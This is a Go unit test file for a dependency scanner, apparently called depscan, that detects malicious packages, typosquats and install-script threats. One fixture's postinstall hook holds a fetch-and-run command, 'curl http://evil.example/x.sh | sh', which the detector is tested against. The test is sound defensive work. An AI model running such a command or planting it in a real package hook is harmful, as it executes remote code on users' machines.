// Copyright 2026 The Depscan Authors
// SPDX-License-Identifier: MIT

package rules

import (
	"context"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sec-scan/depscan/internal/model"
)

func graphWith(refs ...model.PackageRef) model.DependencyGraph {
	nodes := make(map[string]*model.DependencyNode, len(refs))
	for _, ref := range refs {
		nodes[ref.Key()] = &model.DependencyNode{Ref: ref}
	}
	return model.DependencyGraph{Nodes: nodes}
}

func TestDetect_KnownMaliciousExactMatch(t *testing.T) {
	graph := graphWith(model.PackageRef{Ecosystem: model.EcosystemNPM, Name: "evil-lib", VersionSpec: "1.0.0"})
	opts := Options{
		MaliciousList: map[model.Ecosystem]map[string]bool{
			model.EcosystemNPM: {"evil-lib": true},
		},
	}

	result := Detect(context.Background(), graph, model.Manifest{}, nil, nil, opts)
	require.Len(t, result.Findings, 1)
	assert.Equal(t, model.FindingMaliciousPackage, result.Findings[0].FindingType)
	assert.Equal(t, model.SeverityCritical, result.Findings[0].Severity)
	assert.Equal(t, 0.95, result.Findings[0].Confidence)
}

func TestDetect_TyposquatDistanceOne(t *testing.T) {
	graph := graphWith(model.PackageRef{Ecosystem: model.EcosystemNPM, Name: "requestss", VersionSpec: "1.0.0"})
	opts := Options{
		PopularPackages: map[model.Ecosystem][]string{
			model.EcosystemNPM: {"requests"},
		},
	}

	result := Detect(context.Background(), graph, model.Manifest{}, nil, nil, opts)
	require.Len(t, result.Findings, 1)
	assert.Equal(t, model.FindingTyposquat, result.Findings[0].FindingType)
	assert.Equal(t, 0.9, result.Findings[0].Confidence)
}

func TestDetect_ExactPopularNameIsNotATyposquat(t *testing.T) {
	graph := graphWith(model.PackageRef{Ecosystem: model.EcosystemNPM, Name: "requests", VersionSpec: "1.0.0"})
	opts := Options{
		PopularPackages: map[model.Ecosystem][]string{
			model.EcosystemNPM: {"requests"},
		},
	}

	result := Detect(context.Background(), graph, model.Manifest{}, nil, nil, opts)
	assert.Empty(t, result.Findings)
}

func TestDetect_DistanceBeyondThresholdIsNotFlagged(t *testing.T) {
	graph := graphWith(model.PackageRef{Ecosystem: model.EcosystemNPM, Name: "completely-different", VersionSpec: "1.0.0"})
	opts := Options{
		PopularPackages: map[model.Ecosystem][]string{
			model.EcosystemNPM: {"requests"},
		},
	}

	result := Detect(context.Background(), graph, model.Manifest{}, nil, nil, opts)
	assert.Empty(t, result.Findings)
}

func TestDetect_ScaleAwareSkip(t *testing.T) {
	refs := make([]model.PackageRef, 0, 101)
	for i := 0; i < 101; i++ {
		refs = append(refs, model.PackageRef{Ecosystem: model.EcosystemNPM, Name: "pkg", VersionSpec: string(rune('a' + i))})
	}
	graph := graphWith(refs...)

	result := Detect(context.Background(), graph, model.Manifest{}, nil, nil, Options{})
	assert.True(t, result.ReputationChecksSkipped)
}

func TestDetect_ScriptFindingsFromManifest(t *testing.T) {
	manifest := model.Manifest{
		Ecosystem:   model.EcosystemNPM,
		ProjectPath: "my-app",
		Scripts: map[model.Hook]string{
			"postinstall": "curl http://evil.example/x.sh | sh",
		},
	}

	result := Detect(context.Background(), model.DependencyGraph{}, manifest, nil, nil, Options{})
	require.Len(t, result.Findings, 1)
	assert.Equal(t, model.FindingMaliciousScript, result.Findings[0].FindingType)
}

func TestDedupe_MergesSameKeyAndUnionsEvidence(t *testing.T) {
	findings := []model.Finding{
		{PackageName: "a", PackageVersion: "1.0.0", FindingType: model.FindingVulnerability, Severity: model.SeverityHigh, Confidence: 0.5, Evidence: []string{"e1"}, Source: "osv"},
		{PackageName: "a", PackageVersion: "1.0.0", FindingType: model.FindingVulnerability, Severity: model.SeverityHigh, Confidence: 0.9, Evidence: []string{"e2"}, Source: "rules"},
	}
	out := dedupe(findings)
	require.Len(t, out, 1)
	assert.Equal(t, 0.9, out[0].Confidence)
	assert.ElementsMatch(t, []string{"e1", "e2"}, out[0].Evidence)
}

func TestLevenshtein(t *testing.T) {
	assert.Equal(t, 0, levenshtein("requests", "requests"))
	assert.Equal(t, 2, levenshtein("reqeusts", "requests"))
	assert.Equal(t, 1, levenshtein("lodash", "lodashh"))
	assert.Equal(t, 3, levenshtein("kitten", "sitting"))
}
